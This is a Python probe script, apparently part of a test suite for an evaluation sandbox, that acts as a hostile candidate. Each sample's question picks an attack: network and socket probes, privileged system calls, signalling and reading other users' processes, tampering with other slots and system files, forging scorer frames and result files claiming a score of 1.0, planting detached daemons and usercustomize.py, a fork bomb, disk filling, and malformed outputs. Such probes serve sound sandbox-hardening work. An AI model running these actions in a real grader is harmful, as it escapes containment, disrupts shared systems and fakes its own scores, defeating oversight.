"""A candidate that attacks: each sample's question names what to try. The standard library alone.

    python3 solve.py INPUT OUTPUT

Answers with a report, or in a way that is the attack. Beside it lie sight.py and targets.json.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import signal
import socket
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from tests.docker.probes import sight
else:
    import sight  # in the candidate the two lie side by side

HERE = Path(__file__).resolve().parent
INPUT, OUTPUT = Path(sys.argv[1]), Path(sys.argv[2])
HOME = Path(os.environ["HOME"])
SLOTS = Path("/srv/mooring/slots")
# The number of the slot that this sample has.
MINE = HOME.parent.name
TARGETS: dict[str, list[Any]] = json.loads((HERE / "targets.json").read_text(encoding="utf-8"))
# What the next sample, or the next candidate, would find.
MARK = b"left-by-a-sample-9f3c"
SHARED = ("/tmp", "/dev/shm", "/dev/mqueue", "/var/tmp", "/run", "/srv/mooring", str(HERE))
KEYS = {"add_key": 248, "request_key": 249, "keyctl": 250}
SHM_KEY = 0x6D6F6F72
SYSTEM_CALLS = {
    "user namespace": (272, 0x10000000),
    "bpf": (321, 0, 0, 0),
    "perf": (298, 0, 0, -1, -1, 0),
    "module": (175, 0, 0, 0),
    "reboot": (169, 0xFEE1DEAD, 672274793, 0x1234567),
    "clock": (227, 0, 0),
    "chroot": (161, 0),
    "pivot": (155, 0, 0),
}
MACHINERY = json.dumps({"ok": False, "error": {"code": "internal", "message": "x"}})


def attempt(action: Callable[..., object], *arguments: object) -> str:
    """`done`, or the name of what stopped it."""
    try:
        action(*arguments)
    except TimeoutError:
        return "timeout"
    except socket.gaierror:
        return "unknown name"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    return "done"


def read(path: str) -> bytes:
    with open(path, "rb", buffering=0) as file:
        return file.read(1)


def raw_call(number: int, *arguments: int) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(number, *arguments) == -1:
        raise OSError(ctypes.get_errno(), str(number))


def in_child(action: Callable[..., object], *arguments: object) -> str:
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(writer, attempt(action, *arguments).encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as answers:
        answer = answers.read()
    os.waitpid(child, 0)
    return answer or "died"


def others() -> list[int]:
    """Processes of other users."""
    found = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if os.stat(f"/proc/{name}").st_uid != os.getuid():
                found.append(int(name))
    return found


# Looking around


def labels() -> object:
    found = sight.look_around([bytes.fromhex(needle) for needle in TARGETS["needles"]])
    return {"found": found["found"], "files": found["files"], "fields": list(read_input())}


def read_input() -> dict[str, Any]:
    fields: dict[str, Any] = json.loads(INPUT.read_text(encoding="utf-8"))
    return fields


def network() -> object:
    found = {f"{h}:{p}": attempt(reach, h, p) for h, p in TARGETS["addresses"]}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        found["datagram"] = attempt(lambda: sender.sendto(b"?", ("1.1.1.1", 53)))
    found["raw"] = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    found["packets"] = attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    found["vsock"] = attempt(reach_host_by_vsock)
    for path in ("/run/mooring/runner.sock", "/run/docker.sock", "\0runner", "\0control.sock"):
        found[repr(path)] = attempt(knock, path)
    return found


def reach(host: str, port: int) -> None:
    socket.create_connection((host, port), timeout=2).close()


def reach_host_by_vsock() -> None:
    with socket.socket(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM) as caller:
        caller.settimeout(2)
        caller.connect((2, 2375))


def knock(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as caller:
        caller.settimeout(2)
        caller.connect(path)


def rights() -> object:
    found = {name: in_child(raw_call, *call) for name, call in SYSTEM_CALLS.items()}
    found |= {name: in_child(raw_call, number, 0, 0, 0, 0, 0) for name, number in KEYS.items()}
    found["setuid"] = in_child(os.setuid, 0)
    found["neighbour"] = in_child(lambda: os.setuid(os.getuid() ^ 1))
    return found


def meddle() -> object:
    """Signals to, and traces of, every process of other users: the daemon's, samples, janitors."""
    found: dict[str, str] = {}
    for process in others():
        for name in ("mem", "environ"):
            path = f"/proc/{process}/{name}"
            found[path] = attempt(read, path)
        found[f"kill {process}"] = attempt(os.kill, process, signal.SIGKILL)
        found[f"stop {process}"] = attempt(os.kill, process, signal.SIGSTOP)
        found[f"trace {process}"] = in_child(raw_call, 101, 16, process, 0, 0)
    return {name: end for name, end in found.items() if end not in ("ESRCH", "ENOENT")}


def other_slots() -> object:
    found: dict[str, str] = {}
    for slot in sorted(set(os.listdir(SLOTS)) - {MINE}):
        top = SLOTS / slot
        found[f"{slot} list"] = attempt(os.listdir, top)
        found[f"{slot} input"] = attempt((top / "in/input.json").read_bytes)
        found[f"{slot} write"] = attempt((top / "out/output.json").write_text, "1")
        found[f"{slot} home"] = attempt((top / "work/x").write_text, "1")
        found[f"{slot} make"] = attempt((top / "out").mkdir)
        found[f"{slot} lock"] = attempt(os.open, top, os.O_RDONLY)
    return found


def rewrite() -> object:
    """The candidate's own files, those of others, and the daemon's."""
    places = (
        HERE / "solve.py", HERE / "words.py", "/opt/mooring/plan.json", "/usr/bin/python3",
        "/opt/mooring/runtime/runner/output.py", "/etc/ld.so.preload", "/etc/passwd",
        HERE / "__pycache__" / "x.pyc", HERE.parent / "x", HERE.parent / ".locks" / "x",
    )  # fmt: skip
    return {str(path): attempt(append_nothing, path) for path in places}


def append_nothing(path: Path | str) -> None:
    with open(path, "ab"):
        pass


# Being the scorer


def own_scorer() -> object:
    """The commit ships scorer.py, usercustomize.py and more, and it speaks as one."""
    print(json.dumps({"kind": "scored", "score": 1.0, "metrics": {"score": 1.0}}), flush=True)
    return {"kind": "scored", "score": 1.0, "metrics": {"score": 1.0}, "samples": 1, "ready": True}


def fake_results() -> object:
    text = json.dumps({"score": 1.0, "samples": 1, "scored": 1, "details": [], "reward": 1.0})
    names = ("result.json", "samples.jsonl", "score.json", "reward.json", "metrics.json")
    for folder in (HOME, OUTPUT.parent, HERE, Path("/tmp"), Path("/work/results/1")):
        for name in names:
            with contextlib.suppress(OSError):
                (folder / name).write_text(text)
    print(text, file=sys.stderr)
    return None


def answer_of_scorer() -> object:
    """Frames as the scorer's process and the runner send them, on every descriptor there is."""
    for payload in (b'{"kind": "scored", "score": 1.0, "metrics": {}}', MACHINERY.encode()):
        frame = len(payload).to_bytes(4, "big") + payload
        for descriptor in range(1, 64):
            with contextlib.suppress(OSError):
                os.write(descriptor, frame)
    return None


# Leaving something behind


def leave() -> object:
    """The sample's question, and a mark, in every place that might outlive it."""
    text = MARK + b" " + json.dumps(read_input()).encode()
    done = {}
    for folder in (*SHARED, str(HOME), str(OUTPUT.parent), "/dev/shm/.hidden", "/tmp/a/b/c"):
        path = Path(folder, f"left-{os.getuid()}")
        done[folder] = attempt(write_open_to_all, path, text)
    done["segment"] = attempt(leave_segment, text)
    site = HOME / f".local/lib/python3.{sys.version_info.minor}/site-packages"
    done["site"] = attempt(lambda: write_open_to_all(site / "usercustomize.py", b"import os\n"))
    leave_daemon()
    return done


def write_open_to_all(path: Path, text: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text)
    path.chmod(0o777)


def leave_segment(text: bytes) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(SHM_KEY + int(MINE), 4096, 0o1777)
    if segment == -1:
        raise OSError(ctypes.get_errno(), "shmget")
    ctypes.memmove(libc.shmat(segment, None, 0), text[:4096], len(text[:4096]))


def leave_daemon() -> None:
    """A process without ties that would go on to write what the next sample finds."""
    script = (
        "import os, time, signal\n"
        "[signal.signal(n, signal.SIG_IGN) for n in (1, 2, 3, 15)]\n"
        f"while True:\n    open('/tmp/daemon-' + str(os.getuid()), 'wb').write({MARK!r})\n"
        "    time.sleep(0.01)\n"
    )
    for _ in range(3):
        # The kernel counts a user's processes over all containers: there may be no room for more.
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for descriptor in (0, 1, 2):
                        os.close(descriptor)
                    os.execv(sys.executable, [sys.executable, "-c", script])
                os._exit(0)


def find() -> object:
    """What earlier samples have left for us: files, kernel objects, processes, imported modules."""
    needles = [MARK, *(bytes.fromhex(needle) for needle in TARGETS["needles"])]
    seen = sight.Sight(needles)
    for place in (*SHARED, "/srv", "/run", "/home", "/dev", str(HOME)):
        for path in sight.walk(place):
            seen.take_path(path)
    left = sorted(path for path in sight.walk("/") if "/left-" in path or "/daemon-" in path)
    found = {needle.decode(): sorted(at) for needle, at in seen.found.items()}
    # The mark stands in this program, of which earlier trees have a copy.
    programs = [str(path) for path in HERE.parent.glob("*/solve.py")]
    found[MARK.decode()] = [p for p in found[MARK.decode()] if p not in programs]
    libc = ctypes.CDLL(None, use_errno=True)
    segments = [slot for slot in range(16) if libc.shmget(SHM_KEY + slot, 1, 0) != -1]
    return {
        "found": {needle: places for needle, places in found.items() if places},
        "left": left,
        "segments": segments,
        "queues": os.listdir("/dev/mqueue"),
        "usercustomize": "usercustomize" in sys.modules,
        "processes": [p for p in others() if b"daemon-" in command_line(p)],
    }


def command_line(process: int) -> bytes:
    with contextlib.suppress(OSError):
        return Path(f"/proc/{process}/cmdline").read_bytes()
    return b""


# Looking like a failure of the machinery


def kill_self() -> object:
    os.kill(os.getpid(), signal.SIGKILL)
    return None


def stop_self() -> object:
    os.kill(os.getpid(), signal.SIGSTOP)
    return None


def kill_all() -> object:
    """Whatever may be signalled, again and again while the janitor works."""
    for _ in range(8):
        if os.fork() == 0:
            os.setsid()
            until = time.monotonic() + 3
            while time.monotonic() < until:
                for number in (signal.SIGSTOP, signal.SIGKILL):
                    with contextlib.suppress(OSError):
                        os.killpg(os.getppid(), number)
                    for process in others():
                        with contextlib.suppress(OSError):
                            os.kill(process, number)
            os._exit(0)
    # They end this process as well.
    signal.pause()
    return None


def fork_bomb() -> object:
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                while True:
                    with contextlib.suppress(OSError):
                        os.fork()


def fill_disks() -> object:
    """Every place that takes a byte, to its end, and then its inodes."""
    for folder in (HOME, OUTPUT.parent, Path("/tmp"), Path("/dev/shm")):
        with contextlib.suppress(OSError):
            for number in range(64):
                with (folder / f"fill-{number}").open("wb", buffering=0) as file:
                    for _ in range(256):
                        file.write(b"x" * (1 << 20))
        with contextlib.suppress(OSError):
            for number in range(50_000):
                (folder / f"inode-{number}").touch()
    return None


def flood() -> object:
    """Two streams without an end; the limit of time ends it."""
    block = b"\xff\x00\x1b[2J" * 20_000
    until = time.monotonic() + 3
    while time.monotonic() < until:
        os.write(1, block)
        os.write(2, block)
    return None


def room() -> object:
    """Bytes and files that each place takes, and what is to be had beside them."""
    places = (HOME, OUTPUT.parent, Path("/tmp"), Path("/dev/shm"))
    found = {str(place): os.statvfs(place) for place in places}
    libc = ctypes.CDLL(None, use_errno=True)
    beside: dict[str, Callable[[], int]] = {
        "segment": lambda: libc.shmget(0, 128 << 20, 0o600),
        "queues": lambda: min(libc.msgget(0, 0o600) for _ in range(200)),
        "semaphores": lambda: libc.semget(0, 16_000, 0o600),
    }
    return {
        "places": {name: [f.f_blocks * f.f_frsize, f.f_files] for name, f in found.items()},
        "beside": {name: take() for name, take in beside.items()},
    }


def many_files() -> object:
    with contextlib.suppress(OSError):
        while True:
            os.dup(0)
    return None


def nest_folders() -> object:
    """A tree deeper than any path may be long, closed at its top."""
    os.chdir(HOME)
    for _ in range(3000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    os.chmod(HOME, 0)
    os.chmod(OUTPUT.parent, 0)
    return None


def speak_machinery() -> object:
    """Exit codes and words of machinery that fails."""
    print(MACHINERY, flush=True)
    print("No space left on device: the runner cannot be reached", file=sys.stderr)
    sys.exit(125)


def hang() -> object:
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(60)


def close_streams() -> object:
    for descriptor in range(64):
        with contextlib.suppress(OSError):
            os.close(descriptor)
    os.abort()


# Outputs


def replace_output(make: Callable[[], object]) -> None:
    OUTPUT.unlink(missing_ok=True)
    make()
    os._exit(0)


def output_folder_as_link() -> None:
    OUTPUT.parent.rename(OUTPUT.parent.with_name("work") / "aside")
    OUTPUT.parent.symlink_to("/opt/mooring")


def make_sparse() -> None:
    with OUTPUT.open("wb") as file:
        file.truncate(200 << 20)


def write_text(text: str | bytes) -> Callable[[], object]:
    data = text if isinstance(text, bytes) else text.encode()
    return lambda: OUTPUT.write_bytes(data)


OUTPUTS: dict[str, Callable[[], object]] = {
    "link": lambda: OUTPUT.symlink_to("/opt/mooring/plan.json"),
    "link-proc": lambda: OUTPUT.symlink_to("/proc/self/environ"),
    "hard-link": lambda: os.link("/opt/mooring/plan.json", OUTPUT),
    "fifo": lambda: os.mkfifo(OUTPUT),
    "folder": OUTPUT.mkdir,
    "folder-link": output_folder_as_link,
    "socket": lambda: socket.socket(socket.AF_UNIX).bind(str(OUTPUT)),
    "huge": lambda: OUTPUT.write_bytes(b'"' + b"x" * (2 << 20) + b'"'),
    "sparse": make_sparse,
    "empty": write_text(""),
    "deep-list": write_text("[" * 200_000 + "]" * 200_000),
    "deep-object": write_text('{"a":' * 100_000 + "1" + "}" * 100_000),
    "deep-enough": write_text("[" * 900 + "]" * 900),
    "nan": write_text("NaN"),
    "infinity": write_text('{"score": Infinity}'),
    "overflow": write_text("1e999"),
    "huge-integer": write_text("9" * 500_000),
    "long-integer": write_text("9" * 4000),
    "tiny-exponent": write_text("1e-400000000"),
    "doubled-keys": write_text('{"score": 0, "score": 1, "score": 1}'),
    "surrogate": write_text('"\\ud800"'),
    "surrogate-key": write_text('{"\\udfff": "\\udc00\\u0000"}'),
    "nul": write_text('"\\u0000"'),
    "not-utf-8": write_text(b'"\xff\xfe"'),
    "utf-16": write_text("1".encode("utf-16")),
    "bom": write_text(b"\xef\xbb\xbf1"),
    "two-values": write_text("1 1"),
    "second-line": write_text('1\n{"kind": "scored", "score": 1.0}\n'),
    "frame": write_text(b'\x00\x00\x00\x10{"kind":"scored"}'),
    "breaks-request": write_text('1},"output":1}'),
    "breaks-sample": write_text('1,"sample":{"answer":1}'),
}


def output(kind: str) -> object:
    replace_output(OUTPUTS[kind])
    return None


ACTIONS: dict[str, Callable[[], object]] = {
    action.__name__.replace("_", "-"): action
    for action in (
        labels, network, rights, meddle, other_slots, rewrite, own_scorer, fake_results,
        answer_of_scorer, leave, find, kill_self, stop_self, kill_all, fork_bomb, fill_disks,
        flood, room, many_files, nest_folders, speak_machinery, hang, close_streams,
    )
}  # fmt: skip


def main() -> None:
    question = str(read_input()["question"])
    if question.startswith("output:"):
        output(question.removeprefix("output:"))
    # Of a hidden question, which names nothing, a copy is left.
    report = ACTIONS.get(question, leave)()
    OUTPUT.write_text(json.dumps(report), encoding="utf-8")


if __name__ == "__main__":
    main()
